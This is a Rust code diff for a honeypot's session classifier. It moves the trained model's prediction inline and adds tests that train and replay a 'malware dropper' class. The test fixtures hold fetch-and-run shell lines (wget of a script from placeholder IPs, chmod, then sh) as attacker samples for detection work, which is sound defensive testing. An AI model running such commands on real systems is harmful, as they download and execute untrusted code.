@@ -2,19 +2,19 @@
 //! `mirage.classification` when it changes.
 //!
 //! The session keeps its features ([`SessionFeatures`], bounded work per line). With a
-//! trained classifier in the model set it took at start, it sends the feature vector to the
-//! [`ClassifierActor`] (its own thread) and waits for the answer before its next message, so
-//! events stay in input order; a class, or a confidence that moved to another tenth, is
-//! announced with `source: tree`, the set's version as `rule` and the confidence. Without
-//! one, the R1–R8 rules decide, as counted by the features (`source: rules`).
+//! trained classifier in the model set it took at start, it runs it on the feature vector
+//! right after the line (a few microseconds of tree walks on the session's worker thread,
+//! never an I/O thread), so the class is announced before the line's output and in input
+//! order, also for the line that ends the session; a class, or a confidence that moved to
+//! another tenth, is announced with `source: tree`, the set's version as `rule` and the
+//! confidence. Without one, the R1–R8 rules decide, as counted by the features
+//! (`source: rules`).
 
 use std::sync::Arc;
 
-use actix::prelude::*;
 use chrono::{DateTime, Utc};
 
 use super::SessionActor;
-use crate::actors::classifier::{ClassifierActor, Classify};
 use crate::events::EventKind;
 use crate::models::classifier::Prediction;
 use crate::models::context::Login;
@@ -31,8 +31,8 @@ pub const MAX_BYTES: usize = 64 * 1024;
 pub(super) enum Next {
     /// Emit this event now.
     Announce(EventKind),
-    /// Ask the trained classifier about these features.
-    Ask(Classify),
+    /// Run the trained classifier on these features.
+    Ask([f64; FEATURES]),
 }
 
 /// One session's input so far and the class last announced.
@@ -94,10 +94,7 @@ impl Classifier {
         self.lines += 1;
         self.bytes += line.len();
         match &self.models {
-            Some(models) => Some(Next::Ask(Classify {
-                models: models.clone(),
-                features: self.vector(),
-            })),
+            Some(_) => Some(Next::Ask(self.vector())),
             None => self.rules().map(Next::Announce),
         }
     }
@@ -142,30 +139,28 @@ impl Classifier {
     }
 }
 
+impl Classifier {
+    /// The trained classifier's class for `features`, or `None` without one.
+    fn predict(&self, features: &[f64; FEATURES]) -> Option<Prediction> {
+        let classifier = self.models.as_ref()?.classifier.as_ref()?;
+        Some(classifier.predict(features))
+    }
+}
+
 impl SessionActor {
-    /// Re-decides the session's class after `line`: at once by the rules, or by asking the
-    /// [`ClassifierActor`] and pausing this session's mailbox until it answers (a few
-    /// microseconds of work on another thread). If the classifier cannot answer, the rules
-    /// decide.
-    pub(super) fn classify_line(&mut self, line: &str, ctx: &mut Context<Self>) {
-        match self.classifier.observe(self.deps.clock.now(), line) {
-            None => {}
-            Some(Next::Announce(kind)) => self.emit(kind),
-            Some(Next::Ask(ask)) => {
-                ClassifierActor::from_registry()
-                    .send(ask)
-                    .into_actor(self)
-                    .map(|answer, act, _| {
-                        let kind = match answer {
-                            Ok(Some(prediction)) => act.classifier.answer(prediction),
-                            _ => act.classifier.rules(),
-                        };
-                        if let Some(kind) = kind {
-                            act.emit(kind);
-                        }
-                    })
-                    .wait(ctx);
-            }
+    /// Re-decides the session's class after `line` (by the trained classifier, or by the
+    /// rules without one) and announces a change.
+    pub(super) fn classify_line(&mut self, line: &str) {
+        let kind = match self.classifier.observe(self.deps.clock.now(), line) {
+            None => None,
+            Some(Next::Announce(kind)) => Some(kind),
+            Some(Next::Ask(features)) => match self.classifier.predict(&features) {
+                Some(prediction) => self.classifier.answer(prediction),
+                None => self.classifier.rules(),
+            },
+        };
+        if let Some(kind) = kind {
+            self.emit(kind);
         }
     }
 }
@@ -246,5 +241,71 @@ mod tests {
             c.answer(p(Class::ReconFingerprint, 0.71)).is_some(),
             "other class"
         );
+    }
+
+    /// A classifier that knows droppers (they fetch a file) from recon bots (they only look).
+    fn dropper_models() -> Models {
+        use crate::models::classifier::{ClassifierModel, Example, TrainParams};
+        let example = |class, lines: &[&str]| Example {
+            lines: lines
+                .iter()
+                .enumerate()
+                .map(|(i, l)| (Some(i as f64), (*l).to_owned()))
+                .collect(),
+            protocol: Protocol::default(),
+            class,
+        };
+        let mut examples = Vec::new();
+        for _ in 0..10 {
+            examples.push(example(
+                Class::MalwareDropper,
+                &[
+                    "uname -a",
+                    "cd /tmp; wget http://198.51.100.9/bins.sh; chmod 777 bins.sh; sh bins.sh",
+                ],
+            ));
+            examples.push(example(
+                Class::ReconFingerprint,
+                &["uname -a", "cat /proc/cpuinfo", "free -m"],
+            ));
+        }
+        let classifier = ClassifierModel::train(&examples, &TrainParams::default(), None).unwrap();
+        Models {
+            classifier: Some(classifier),
+            ..Models::default()
+        }
+    }
+
+    #[test]
+    fn a_replayed_dropper_is_classified_by_the_tree_before_its_last_line_ends_it() {
+        use crate::config::AuthConfig;
+        use crate::models::ModelHandle;
+        use crate::sim::runner::{RunOptions, run_blocking};
+        let dir = tempfile::tempdir().unwrap();
+        let file = dir.path().join("dropper.yaml");
+        // The class becomes known on the line that ends the session: it must still be there.
+        let scenario = "version: 1\nname: dropper\nattacker:\n  credentials: [{username: root, password: toor}]\n\
+             steps:\n\
+             \x20 - input: uname -a\n\
+             \x20 - input: cd /var/tmp; wget http://203.0.113.5/x.sh; chmod +x x.sh; sh x.sh; exit\n    delay: 1\n\
+             expect:\n  class: malware_dropper\n  session_open: false\n  events:\n\
+             \x20   - eventid: mirage.classification\n      fields: {class: malware_dropper, source: tree}\n";
+        std::fs::write(&file, scenario).unwrap();
+        let options = RunOptions {
+            jobs: 1,
+            workers: 1,
+            models: ModelHandle::new(dropper_models()),
+            ..RunOptions::default()
+        };
+        for _ in 0..20 {
+            let (reports, _) = run_blocking(
+                std::slice::from_ref(&file),
+                &AuthConfig::default(),
+                &options,
+                |_| {},
+            )
+            .unwrap();
+            assert!(reports[0].passed, "{}", reports[0].table());
+        }
     }
 }
